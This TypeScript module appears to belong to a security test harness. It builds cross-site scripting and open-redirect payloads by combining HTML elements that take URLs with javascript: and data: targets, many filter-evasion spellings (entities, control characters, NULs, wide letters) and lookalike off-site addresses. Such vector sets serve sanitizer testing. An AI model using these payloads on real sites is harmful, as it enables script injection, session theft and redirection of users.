import { combineAll, decimal, hexadecimal, type VectorFamily } from './attempt.ts';

/** HTML constructs with an address, written as `%`. */
const CARRIERS = {
  link: '<a href="%">x</a>',
  'link, asking elsewhere': '<a href="/ayuda" ping="%">x</a>',
  area: '<img src="/favicon.svg" usemap="#m"><map name=m><area shape=default href="%"></map>',
  picture: '<img src="%">',
  'picture, sizes': '<img srcset="% 1x">',
  'picture, old': '<img lowsrc="%" dynsrc="%" longdesc="%">',
  frame: '<iframe src="%"></iframe>',
  frameset: '<frameset><frame src="%"></frameset>',
  object: '<object data="%"></object>',
  'object parameter': '<object><param name=src value="%"></object>',
  embed: '<embed src="%">',
  applet: '<applet codebase="%" code=x></applet>',
  form: '<form action="%"><button>x</button></form>',
  button: '<form><button formaction="%">x</button></form>',
  'picture of a form': '<form><input type=image src="%" formaction="%"></form>',
  stylesheet: '<link rel=stylesheet href="%">',
  preload: '<link rel=preload as=image href="%">',
  base: '<base href="%"><img src="/hostil-base.png">',
  video: '<video src="%" poster="%" autoplay></video>',
  audio: '<audio src="%" autoplay></audio>',
  source: '<video autoplay><source src="%"><track src="%"></video>',
  background: '<table background="%"><tr><td background="%">x</td></tr></table>',
  quotation: '<blockquote cite="%">x</blockquote>',
  'svg link': '<svg><a xlink:href="%"><text y=9>x</text></a></svg>',
  'svg use': '<svg><use href="%#x"></use></svg>',
  'svg picture': '<svg><image href="%"></image></svg>',
  'svg filter': '<svg><filter><feImage href="%"></feImage></filter></svg>',
  'svg script': '<svg><script href="%"></script></svg>',
  'math link': '<math href="%"><mtext>x</mtext></math>',
  refresh: '<meta http-equiv=refresh content="0;url=%">',
  style: '<p style="background:url(%)">x</p>',
};

const AIMS: Record<string, (attempt: { code: string; away: string }) => string> = {
  javascript: ({ code }) => `javascript:${code}`,
  data: ({ code }) => `data:text/html,<script>${code.replace('top', 'parent')}</script>`,
  'without a protocol': ({ away }) => away.replace('https:', ''),
};

/** Spellings of `javascript:` that browsers accept. `j` is the whole address. */
const SPELLINGS: Record<string, (j: string) => string> = {
  capitals: (j) => j.replace('javascript', 'JaVaScRiPt'),
  'decimal entities': (j) => decimal(j),
  'hexadecimal entities': (j) => hexadecimal(j),
  'entities with zeros and no semicolon': (j) => j.replace('j', '&#0000106').replace('a', '&#x00061'),
  'entity of the colon': (j) => j.replace(':', '&colon;'),
  'a tab': (j) => j.replace('java', 'java\t'),
  'an entity of a tab': (j) => j.replace('java', 'java&Tab;'),
  'a line break': (j) => j.replace('java', 'java\n'),
  'an entity of a line break': (j) => j.replace('java', 'ja&NewLine;va&#10;'),
  'a carriage return': (j) => j.replace('java', 'java&#13;'),
  'a tab before the colon': (j) => j.replace(':', '&#9;:'),
  'blanks before it': (j) => ` \n\t${j}`,
  'control characters before it': (j) => `&#1;&#14;\u001f${j}`,
  'a NUL before it': (j) => `\0${j}`,
  'a NUL in it': (j) => j.replace('java', 'java\0'),
  'an entity of a NUL': (j) => j.replace('java', 'java&#0;'),
  'a byte order mark': (j) => `\ufeff${j}`,
  'a soft hyphen': (j) => j.replace('java', 'java&shy;'),
  'wide letters': (j) => j.replace('java', '\uff4a\uff41\uff56\uff41'),
  'percent signs': (j) => j.replace('j', '%6A'),
  'slashes behind it': (j) => j.replace(':', '://%0a'),
  'a comment behind it': (j) => j.replace(':', ':/**/'),
  'another before it': (j) => `view-source:${j}`,
  'feed before it': (j) => `feed:${j}`,
  'a path before it': (j) => `./${j}`,
  vbscript: (j) => j.replace('javascript', 'vbscript'),
  livescript: (j) => j.replace('javascript', 'livescript'),
};

const SPELLED_IN = { link: CARRIERS.link, frame: CARRIERS.frame };

/** Starts of addresses that resemble the portal's but lead elsewhere. */
const AWAY = ['//', '\\\\', '/\\', '\\/', '/\t/', '/&#10;/', '///', '&#47;/', 'https:///', 'https:\\\\', '\u0001//'];

const fill = (html: string, address: string): string => html.replaceAll('%', () => address);

export const addresses: VectorFamily = {
  ...combineAll(CARRIERS, AIMS, (html, aim) => (attempt) => fill(html, aim(attempt).replaceAll('"', '&quot;'))),
  ...combineAll(
    SPELLED_IN,
    SPELLINGS,
    (html, spell) =>
      ({ code }) =>
        fill(html, spell(`javascript:${code}`)),
  ),
  ...Object.fromEntries(
    AWAY.map((start, place) => [
      `picture from elsewhere ${place}`,
      ({ away }) => `<img src="${start}${away.replace('https://', '')}">`,
    ]),
  ),
  'a drawing as data': ({ code }) =>
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>">`,
  'a drawing as data, in an object': ({ code }) =>
    `<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>"></object>`,
  'base64 in a frame': ({ code }) =>
    `<iframe src="data:text/html;base64,${btoa(`<script>${code}</script>`)}"></iframe>`,
  'a document in an attribute': ({ code }) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  'a document in an attribute, as entities': ({ code }) =>
    `<iframe srcdoc="${hexadecimal(`<img src=x:x onerror=${code}>`)}"></iframe>`,
  'a document that says it is in a sandbox': ({ code }) =>
    `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>${code}</script>"></iframe>`,
  'a new window': ({ code }) => `<a href="/ayuda" target="javascript:${code}" rel=opener>x</a>`,
};
